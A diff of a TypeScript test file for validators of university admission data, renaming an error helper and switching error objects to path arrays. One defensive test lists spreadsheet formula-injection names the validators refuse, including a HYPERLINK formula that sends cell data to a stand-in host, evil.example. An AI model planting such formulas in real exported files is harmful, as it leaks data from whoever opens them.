@@ -10,9 +10,8 @@ import {
   validatePlace,
   validateUniversity,
   validateUniversityCode,
-  problemsOf,
 } from './guide';
-import { missingOf, valueOf } from './result';
+import { errorsOf, missingOf, valueOf } from './result';
 import { admissionFields } from '../catalog';
 import { FORMULA_NAME_MESSAGE } from '../csv';
 import { OFFERING_SECTIONS, OFFERING_SECTION_MESSAGE } from '../offering-sections';
@@ -47,14 +46,14 @@ describe('validateUniversity', () => {
     ['too long', { city: 'م'.repeat(101) }, undefined, ['قيمة المدينة أطول من المسموح (100 حرف)']],
   ])('the city: %s', (_name, over, kept, messages) => {
     const r = validateUniversity({ ...fullUniversity, ...over }, 'add', 'private');
-    expect(problemsOf(r).map((p) => p.message)).toEqual(messages);
+    expect(errorsOf(r).map((p) => p.message)).toEqual(messages);
     if (!messages.length) expect(valueOf(r).city).toBe(kept);
   });
 
   it('accepts a complete record and takes `university` as the code', () => {
     const { university_code, ...rest } = fullUniversity;
     const r = validateUniversity({ ...rest, university: university_code }, 'add', 'private');
-    expect(problemsOf(r)).toEqual([]);
+    expect(errorsOf(r)).toEqual([]);
     expect(valueOf(r).university_code).toBe('GUC');
   });
 
@@ -90,7 +89,7 @@ describe('validateUniversity', () => {
   ] as const)('%s', (_name, input, mode, missing) => {
     const r = validateUniversity(input as Record<string, unknown>, mode, 'private');
     expect(missingOf(r)).toEqual(missing);
-    if (missing.length) expect(problemsOf(r)[0].message).toBe(GUIDE_MESSAGES.requiredUniversity);
+    if (missing.length) expect(errorsOf(r)[0].message).toBe(GUIDE_MESSAGES.requiredUniversity);
   });
 
   it.each([
@@ -101,7 +100,7 @@ describe('validateUniversity', () => {
     ['index zero', { index: 0 }, 'الترتيب يجب أن يكون رقمًا صحيحًا موجبًا'],
   ])('refuses %s', (_name, change, message) => {
     const r = validateUniversity({ ...fullUniversity, ...change }, 'add', 'private');
-    expect(problemsOf(r).map((p) => p.message)).toContain(message);
+    expect(errorsOf(r).map((p) => p.message)).toContain(message);
   });
 
   it.each([
@@ -113,7 +112,7 @@ describe('validateUniversity', () => {
   ])('logo: %s', (_name, change, logo, messages) => {
     const r = validateUniversity({ ...fullUniversity, ...change }, 'add', 'private');
     if (r.ok) expect(valueOf(r).logo).toBe(logo);
-    expect(problemsOf(r).map((p) => p.message)).toEqual(messages);
+    expect(errorsOf(r).map((p) => p.message)).toEqual(messages);
   });
 
   it('stores an emptied link as "#"', () => {
@@ -171,7 +170,7 @@ describe('validateOffering', () => {
     ['bad score', { ...base, thanwyaa_firstYear_score: '120' }, [GUIDE_MESSAGES.score]],
     ['bad fee', { ...base, feesNatives2: 'غالي' }, [GUIDE_MESSAGES.fee]],
   ])('%s', (_n, input, messages) => {
-    expect(problemsOf(validateOffering(input)).map((p) => p.message)).toEqual(messages);
+    expect(errorsOf(validateOffering(input)).map((p) => p.message)).toEqual(messages);
   });
 
   it.each(OFFERING_SECTIONS)('takes the section %s', (section) => {
@@ -179,8 +178,8 @@ describe('validateOffering', () => {
   });
 
   it('refuses a section outside the list beside the field, naming the choices', () => {
-    expect(problemsOf(validateOffering({ ...base, section: 'other' }))).toEqual([
-      { field: 'section', message: OFFERING_SECTION_MESSAGE },
+    expect(errorsOf(validateOffering({ ...base, section: 'other' }))).toEqual([
+      { path: ['section'], message: OFFERING_SECTION_MESSAGE },
     ]);
     expect(OFFERING_SECTION_MESSAGE).toContain('علمي علوم');
   });
@@ -197,8 +196,8 @@ describe('names that a spreadsheet would run (issue 20)', () => {
     ['university_Arabic_Name', '=HYPERLINK("http://evil.example/?d="&A2,"x")'],
     ['university_Arabic_Name', '@SUM(1,2)'],
   ])('a university whose %s is %j is refused', (field, name) => {
-    expect(problemsOf(validateUniversity({ ...fullUniversity, [field]: name }, 'add', 'private'))).toEqual([
-      { field, message: FORMULA_NAME_MESSAGE },
+    expect(errorsOf(validateUniversity({ ...fullUniversity, [field]: name }, 'add', 'private'))).toEqual([
+      { path: [field], message: FORMULA_NAME_MESSAGE },
     ]);
   });
   it.each([
@@ -206,15 +205,15 @@ describe('names that a spreadsheet would run (issue 20)', () => {
     ['faculty', '+كلية'],
   ])('an offering whose %s is %j is refused', (field, name) => {
     const input = { ...offering, [field]: name };
-    expect(problemsOf(validateOffering(input))).toEqual([{ field, message: FORMULA_NAME_MESSAGE }]);
+    expect(errorsOf(validateOffering(input))).toEqual([{ path: [field], message: FORMULA_NAME_MESSAGE }]);
   });
   it.each(['dorm', 'transport'] as const)('a %s whose type starts with @ is refused', (kind) => {
-    expect(problemsOf(validatePlace({ type: '@x', price: '100' }, kind))).toEqual([
-      { field: 'type', message: FORMULA_NAME_MESSAGE },
+    expect(errorsOf(validatePlace({ type: '@x', price: '100' }, kind))).toEqual([
+      { path: ['type'], message: FORMULA_NAME_MESSAGE },
     ]);
   });
   it('a name with a dash inside is kept', () => {
-    expect(problemsOf(validateOffering({ ...offering, faculty: 'كلية الطب - جامعة القاهرة' }))).toEqual([]);
+    expect(errorsOf(validateOffering({ ...offering, faculty: 'كلية الطب - جامعة القاهرة' }))).toEqual([]);
   });
 });
 
@@ -223,7 +222,7 @@ describe('validatePlace', () => {
     ['dorm', {}, GUIDE_MESSAGES.dormType],
     ['transport', { type: '  ' }, GUIDE_MESSAGES.transportType],
   ] as const)('a %s needs a type', (kind, input, message) => {
-    expect(problemsOf(validatePlace(input, kind))[0].message).toBe(message);
+    expect(errorsOf(validatePlace(input, kind))[0].message).toBe(message);
   });
   it('keeps "لم يعلن" as a price', () => {
     expect(validatePlace({ type: 'غرفة', price: 'لم يعلن' }, 'dorm')).toMatchObject({
@@ -246,7 +245,7 @@ describe('admission status and deadline', () => {
       azhar_secondYear_status: 'متاح للبرامج الدولية',
     };
     const r = validateAdmissionStatus(input, 'add');
-    expect(problemsOf(r)).toEqual([]);
+    expect(errorsOf(r)).toEqual([]);
     expect(valueOf(r).wafdeen_status).toBe('متاح (الطب فقط)');
     expect(valueOf(r).azhar_secondYear_status).toBe('متاح للبرامج الدولية');
   });
@@ -255,14 +254,14 @@ describe('admission status and deadline', () => {
     const { transfer_status, ...rest } = all('انتهي');
     const r = validateAdmissionStatus(rest, 'add');
     expect(missingOf(r)).toEqual(['transfer_status']);
-    expect(problemsOf(r)[0].message).toBe('قيمة غير صالحة لحالة transfer_status');
-    expect(problemsOf(validateAdmissionStatus({ transfer_status: 'انتهي' }, 'edit'))).toEqual([]);
+    expect(errorsOf(r)[0].message).toBe('قيمة غير صالحة لحالة transfer_status');
+    expect(errorsOf(validateAdmissionStatus({ transfer_status: 'انتهي' }, 'edit'))).toEqual([]);
   });
 
   it('"other" needs its custom text', () => {
     const r = validateAdmissionStatus({ ...all('انتهي'), transfer_status: 'اخري' }, 'add');
-    expect(problemsOf(r)).toEqual([
-      { field: 'transfer_status_custom', message: 'الرجاء إدخال الحالة المخصصة لـ transfer_status' },
+    expect(errorsOf(r)).toEqual([
+      { path: ['transfer_status_custom'], message: 'الرجاء إدخال الحالة المخصصة لـ transfer_status' },
     ]);
   });
 
@@ -280,7 +279,7 @@ describe('admission status and deadline', () => {
     const r = validateAdmissionDeadline({ transfer_deadline: '15/8/2025' }, 'add');
     expect(valueOf(r).transfer_deadline).toBe('15/8/2025');
     expect(valueOf(r).wafdeen_deadline).toBe('لم يحدد');
-    expect(problemsOf(validateAdmissionDeadline({ wafdeen_deadline: '2025/8/15' }, 'edit'))[0].message).toBe(
+    expect(errorsOf(validateAdmissionDeadline({ wafdeen_deadline: '2025/8/15' }, 'edit'))[0].message).toBe(
       'تاريخ غير صالح لـ wafdeen_deadline',
     );
   });
